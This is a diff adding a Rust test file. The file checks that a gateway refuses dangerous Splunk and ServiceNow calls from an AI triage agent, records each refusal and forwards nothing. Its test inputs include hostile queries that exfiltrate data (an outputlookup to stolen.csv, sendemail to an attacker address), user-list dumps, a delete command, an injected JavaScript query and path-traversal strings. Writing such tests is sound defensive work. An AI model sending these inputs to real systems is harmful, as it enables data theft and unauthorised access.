@@ -1,0 +1,170 @@
+//! Where a call may go (issue 8, points 7, 8 and 10): refused query-language commands,
+//! path values that would leave their segment, bounded fan-out and bounded answers,
+//! instance variables checked by type. Every refusal is a 400 naming the param, recorded,
+//! and no request reaches the target.
+
+use serde_json::{Value, json};
+
+use crate::harness::{TestServer, each};
+
+const TRIAGE: &str = "triage-agent";
+
+/// The org's `execute.rejected` records.
+async fn rejections(s: &TestServer) -> Vec<Value> {
+    s.audit()
+        .await
+        .into_iter()
+        .filter(|r| r["kind"] == "execute.rejected")
+        .collect()
+}
+
+/// Sends `call`, expects a recorded `invalid_params` 400 whose message holds every one of
+/// `says`, and no request at the simulator.
+async fn refused(s: &TestServer, call: Value, says: &[&str]) {
+    let before = s.sim().request_count();
+    let recorded = rejections(s).await.len();
+    let (status, body) = s.execute(&s.agent_key(TRIAGE), call.clone()).await;
+    assert_eq!(status, 400, "{}: {call} → {body}", s.backend);
+    assert_eq!(
+        body["error"]["code"], "invalid_params",
+        "{}: {body}",
+        s.backend
+    );
+    let message = body["error"]["message"].as_str().unwrap_or_default();
+    for s2 in says {
+        assert!(
+            message.contains(s2),
+            "{}: '{s2}' not in {message}",
+            s.backend
+        );
+    }
+    let after = rejections(s).await;
+    assert_eq!(
+        after.len(),
+        recorded + 1,
+        "{}: the refusal is recorded",
+        s.backend
+    );
+    let last = after.last().unwrap();
+    assert_eq!(last["fields"]["code"], "invalid_params");
+    assert_eq!(last["fields"]["message"], message, "{}", s.backend);
+    assert_eq!(
+        s.sim().request_count(),
+        before,
+        "{}: nothing reached the target for {call}",
+        s.backend
+    );
+}
+
+fn spl(search: &str) -> Value {
+    json!({"connector": "splunk", "operation": "search:create", "params": {"search": search}})
+}
+
+#[tokio::test]
+async fn dangerous_spl_is_refused_and_recorded() {
+    for s in each().await {
+        for q in [
+            "| rest /services/authentication/users",
+            "search index=main | COLLECT index=summary",
+            "search index=main\n|\toutputlookup stolen.csv",
+            "search x | sendemail to=attacker@example.com",
+            "search x [ | rest /services/apps/local ]",
+            "search x | `evil_macro`",
+        ] {
+            refused(&s, spl(q), &["search:create", "'search' is refused"]).await;
+        }
+        // The same deny list guards the SPL of a saved search.
+        refused(
+            &s,
+            json!({"connector": "splunk", "operation": "saved_searches:write",
+                   "params": {"name": "n", "search": "search x | delete"}}),
+            &["'search' is refused", "delete"],
+        )
+        .await;
+        // A scripted ServiceNow encoded query is refused too.
+        refused(
+            &s,
+            json!({"connector": "servicenow", "operation": "incidents:read",
+                   "params": {"query": "sys_created_on>JavaScript :gs.daysAgo(1)"}}),
+            &["'query' is refused", "javascript"],
+        )
+        .await;
+        // An ordinary search still goes through the pipeline (decided by policy).
+        let (status, body) = s
+            .execute(
+                &s.agent_key(TRIAGE),
+                spl("search index=main action=blocked | stats count by src"),
+            )
+            .await;
+        assert!(
+            status == 200 || status == 202,
+            "{}: {status} {body}",
+            s.backend
+        );
+    }
+}
+
+#[tokio::test]
+async fn path_values_cannot_leave_their_segment() {
+    for s in each().await {
+        for sid in [
+            "",
+            ".",
+            "..",
+            "%2e%2e",
+            "%2E%2e",
+            "%252e%252e",
+            "..%2f..%2fservices",
+            "x/../../y",
+        ] {
+            refused(
+                &s,
+                json!({"connector": "splunk", "operation": "search:status", "params": {"sid": sid}}),
+                &["'sid' must not be"],
+            )
+            .await;
+        }
+        refused(
+            &s,
+            json!({"connector": "servicenow", "operation": "changes:close",
+                   "params": {"change_ids": ["CHG1", "%2e%2e"], "close_code": "successful", "close_notes": "n"}}),
+            &["'change_ids[1]' must not be"],
+        )
+        .await;
+        refused(
+            &s,
+            json!({"connector": "servicenow", "operation": "changes:close",
+                   "params": {"change_ids": ["CHG1", {"a": 1}], "close_code": "successful", "close_notes": "n"}}),
+            &["'change_ids[1]' must be a string or a number"],
+        )
+        .await;
+    }
+}
+
+#[tokio::test]
+async fn each_params_are_capped() {
+    for s in each().await {
+        let ids: Vec<String> = (0..=arx_core::request::MAX_EACH_ITEMS)
+            .map(|i| format!("CHG{i}"))
+            .collect();
+        refused(
+            &s,
+            json!({"connector": "servicenow", "operation": "changes:close",
+                   "params": {"change_ids": ids, "close_code": "successful", "close_notes": "n"}}),
+            &["'change_ids' has 101 items", "at most 100"],
+        )
+        .await;
+        // At the limit the call is taken (and escalates: a write).
+        let ids: Vec<String> = (0..arx_core::request::MAX_EACH_ITEMS)
+            .map(|i| format!("CHG{i}"))
+            .collect();
+        let (status, body) = s
+            .execute(
+                &s.agent_key(TRIAGE),
+                json!({"connector": "servicenow", "operation": "changes:close",
+                       "params": {"change_ids": ids, "close_code": "successful", "close_notes": "n"}}),
+            )
+            .await;
+        assert_ne!(status, 400, "{}: {body}", s.backend);
+    }
+}
